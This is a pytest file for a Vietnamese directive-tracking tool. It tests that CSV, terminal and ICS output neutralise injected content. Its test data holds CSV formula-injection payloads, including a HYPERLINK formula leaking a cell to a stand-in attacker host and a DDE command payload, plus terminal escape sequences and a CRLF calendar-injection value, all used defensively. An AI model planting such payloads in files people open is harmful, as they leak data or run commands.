# SPDX-License-Identifier: MIT
"""
Issue 17 item 9: injection into what people open.

* CSV written by ``to_csv``, ``write_csv`` (``--output x.csv``) and ``--format csv``:
  a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is prefixed with an
  apostrophe (OWASP), so Excel or LibreOffice shows it as text;
* text output (``report``, ``remind`` tables, ``--send console``): ESC and other control
  characters in content or unit names never reach the terminal;
* ``to_ics(uid_domain=...)`` accepts host names only.

Also issue 14 item 5 (CSV part): plain headers and rounded values.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date, datetime, time
from pathlib import Path

import pytest

from directive_tracker import services
from directive_tracker._validators import VIETNAM_TZ
from directive_tracker.calendars import vietnam_calendar
from directive_tracker.cli import main
from directive_tracker.directives import Directive
from directive_tracker.exceptions import ValidationError
from directive_tracker.notifiers import ConsoleNotifier, Message, RecipientLevel
from directive_tracker.renderers import (
    plain_key,
    render_grid,
    render_text,
    to_csv,
    to_ics,
    write_csv,
)
from directive_tracker.reports import Column, DeadlineRow, Table
from directive_tracker.storage.sqlite import SQLiteStore
from directive_tracker.units import Unit, UnitKind

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
ESC_NAME = "Sở \x1b[2J\x1b]0;pwned\x07Nội vụ\u202e"


def _clock(d: date) -> Callable[[], datetime]:
    return lambda: datetime.combine(d, time(9), tzinfo=VIETNAM_TZ)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """
    Tasks X0..X5, one per formula (control characters such as ESC are refused by the
    constructors since 0.2, see test_escape_sequences_refused_at_the_boundary); received
    Fri 26/04/2024, "trong 10 ngày làm việc":
    due Tue 14/05/2024 (26/04 + 10 working days, 30/04 and 01/05 are holidays:
    29/04, 02, 03, 06, 07, 08, 09, 10, 13, 14), overdue on Mon 20/05/2024.
    """
    path = tmp_path / "t.sqlite3"
    cal = vietnam_calendar()
    store = SQLiteStore(path)
    try:
        services.register_unit(store, Unit(code="UBND", name="UBND tỉnh",
                                           kind=UnitKind.PROVINCIAL_COMMITTEE))
        services.register_unit(store, Unit(code="SNV", name="Sở Nội vụ",
                                           kind=UnitKind.DEPARTMENT, parent="UBND"))
        services.register_directive(store, Directive(
            id="CT-05", issuer="UBND", issue_date=date(2024, 4, 25),
            received_date=date(2024, 4, 26), summary="Chỉ thị đỏ"))
        for k, content in enumerate(FORMULAS):
            services.assign_task(store, cal, directive_id="CT-05", task_id=f"X{k}",
                                 content=content + " nhấp nháy", lead_unit="SNV",
                                 deadline="trong 10 ngày làm việc", actor="VP",
                                 on_overlap="ignore",
                                 clock=_clock(date(2024, 4, 26)))
    finally:
        store.close()
    return path


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def table(*rows: tuple[object, ...]) -> Table:
    return Table(name="t", title_vi="T", title_en="T", subtitle_vi="", subtitle_en="",
                 columns=(Column(key="text", label_vi="Nội dung", label_en="Text"),
                          Column(key="n", label_vi="Số", label_en="N", kind="int"),
                          Column(key="x", label_vi="Điểm", label_en="Score", kind="float")),
                 rows=tuple(rows))


class TestCsvCells:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_formula_starts_get_an_apostrophe(self, text: str) -> None:
        """OWASP: '=...', '+...', '-...', '@...', TAB, CR are written as "'" + text."""
        [_, row] = _cells(to_csv(table((text, 1, 1.5))))
        assert "'" + text == row[0]

    def test_ordinary_text_and_numbers_unchanged(self) -> None:
        """Text that merely contains '=' and negative numbers (ints, floats) stay as is."""
        [_, row] = _cells(to_csv(table(("a = b - c", -3, -1.25))))
        assert ["a = b - c", "-3", "-1.25"] == row

    def test_header_labels_too(self) -> None:
        """A header label is a cell like any other."""
        t = Table(name="t", title_vi="", title_en="", subtitle_vi="", subtitle_en="",
                  columns=(Column(key="k", label_vi="=1+1", label_en="@x"),), rows=())
        assert [["'=1+1"]] == _cells(to_csv(t))
        assert [["'@x"]] == _cells(to_csv(t, lang="en"))

    def test_floats_rounded(self) -> None:
        """0.1 + 0.2 and 100.00000000000001 are written 0.3 and 100.0 (9 decimals)."""
        rows = _cells(to_csv(table(("a", 1, 0.1 + 0.2), ("b", 2, 100.00000000000001),
                                   ("c", 3, 2 / 3))))
        assert ["0.3", "100.0", "0.666666667"] == [r[2] for r in rows[1:]]

    def test_plain_keys(self) -> None:
        """Headers with headers="keys" are snake_case without symbols."""
        assert "weighted_score_v1" == plain_key("weighted_score@1")
        assert "on_time_rate_original_v1" == plain_key("on_time_rate_original@1")
        assert "a_b" == plain_key("A-B")
        t = Table(name="t", title_vi="", title_en="", subtitle_vi="", subtitle_en="",
                  columns=(Column(key="weighted_score@1", label_vi="Điểm", label_en="Score",
                                  kind="float"),), rows=((87.17948717948718,),))
        assert [["weighted_score_v1"], ["87.179487179"]] == _cells(to_csv(t, headers="keys"))

    def test_write_csv_file(self, tmp_path: Path) -> None:
        """The file for Excel (UTF-8 with BOM) carries the neutralised cells."""
        p = tmp_path / "x.csv"
        write_csv(table((FORMULAS[0], 1, None)), p)
        text = p.read_text(encoding="utf-8-sig")
        assert "'" + FORMULAS[0] == _cells(text)[1][0]


class TestCommandLine:
    def test_report_format_csv(self, db: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """``report overdue --format csv``: six rows, no cell a spreadsheet would run."""
        code = main(["--db", str(db), "report", "overdue", "--as-of", "2024-05-20",
                     "--format", "csv"])
        out = capsys.readouterr().out
        assert 0 == code
        rows = _cells(out)
        assert 7 == len(rows)
        _no_formula(rows)
        assert any(c.startswith("'=HYPERLINK(") for r in rows for c in r)

    def test_report_output_csv(self, db: Path, tmp_path: Path,
                               capsys: pytest.CaptureFixture[str]) -> None:
        """``report overdue --output x.csv``: the same in the file."""
        out = tmp_path / "x.csv"
        code = main(["--db", str(db), "report", "overdue", "--as-of", "2024-05-20",
                     "--output", str(out)])
        capsys.readouterr()
        assert 0 == code
        rows = _cells(out.read_text(encoding="utf-8-sig"))
        assert 7 <= len(rows)
        _no_formula(rows)

    def test_remind_format_csv(self, db: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """``remind --format csv`` (the command line's own CSV writer) neutralises too."""
        code = main(["--db", str(db), "remind", "--as-of", "2024-05-20", "--format", "csv"])
        out = capsys.readouterr().out
        assert 0 == code
        _no_formula(_cells(out))

    @pytest.mark.parametrize("argv", [
        ["report", "overdue", "--as-of", "2024-05-20"],
        ["report", "upcoming", "--as-of", "2024-05-08"],
        ["report", "directives", "--as-of", "2024-05-20"],
        ["remind", "--as-of", "2024-05-20"],
        ["remind", "--as-of", "2024-05-20", "--send", "console"]])
    def test_text_output_has_no_control_characters(
            self, db: Path, argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
        """No ESC, BEL, CR or bidi override reaches the terminal (a tab may); ESC shows
        as ␛."""
        code = main(["--db", str(db), *argv])
        out = capsys.readouterr().out
        assert 0 == code
        assert out.strip()
        bad = {c for c in out if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0
               or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"}
        assert set() == bad

    def test_escape_sequences_refused_at_the_boundary(self) -> None:
        """ESC, BEL and U+202E never get into a unit, directive or task: refused when
        built (the renderers' own neutralising is tested in TestTextRenderers)."""
        with pytest.raises(ValidationError):
            Unit(code="SNV", name=ESC_NAME, kind=UnitKind.DEPARTMENT)
        with pytest.raises(ValidationError):
            Directive(id="CT-05", issuer="UBND", issue_date=date(2024, 4, 25),
                      summary="Chỉ thị \x1b[31mđỏ\x1b[0m")


class TestTextRenderers:
    def test_render_text(self) -> None:
        """ESC, BEL, CR and U+202E in cells, headers and the title become visible."""
        t = Table(name="t", title_vi="Tiêu đề\x1b[2J", title_en="T", subtitle_vi="",
                  subtitle_en="", columns=(Column(key="a", label_vi="A\x07", label_en="A"),),
                  rows=(("x\x1b[31my\rz\u202e",),))
        out = render_text(t)
        assert "Tiêu đề␛[2J" in out
        assert "A␇" in out
        assert "x␛[31my␍z\ufffd" in out

    def test_render_grid(self) -> None:
        """The command line's listings: line breaks kept, controls visible."""
        lines = render_grid(["H\x1b"], [["a\x1b[0m\nb\x9b"]])
        assert ["H␛", "─────", "a␛[0m", "b\ufffd"] == lines

    def test_console_notifier(self) -> None:
        """--send console writes ESC as ␛, keeps the body's line breaks."""
        buf = io.StringIO()
        ConsoleNotifier(buf).send(Message(
            key="k", recipient="SNV", recipient_name=ESC_NAME,
            level=RecipientLevel.LEAD_UNIT, subject="S\x1b[8m", body="một\nhai\x1b]0;x\x07"))
        out = buf.getvalue()
        assert "\x1b" not in out
        assert "\x07" not in out
        assert "S␛[8m" in out
        assert "một\nhai␛]0;x␇" in out


class TestIcsDomain:
    @pytest.mark.parametrize("domain", ["x\r\nBEGIN:VEVENT", "a b", "a@b.vn", "a;b", "-a.vn",
                                        "a..vn", "ví-dụ.vn", "a" * 64, "x\n"])
    def test_refused(self, domain: str) -> None:
        with pytest.raises(ValidationError):
            to_ics([], uid_domain=domain)

    def test_accepted_and_used(self) -> None:
        """A host name is the right-hand side of each UID (task 'A;B' escaped as TEXT)."""
        row = DeadlineRow(task_id="A;B", directive_id="D", content="c", lead_unit="SNV",
                          lead_name="Sở Nội vụ", due=date(2026, 5, 8), working_days_remaining=2,
                          status_vi="Sắp đến hạn", status_en="Due soon")
        ics = to_ics([row], uid_domain="vpubnd.example.gov.vn")
        assert "UID:A\\;B-20260508@vpubnd.example.gov.vn\r\n" in ics
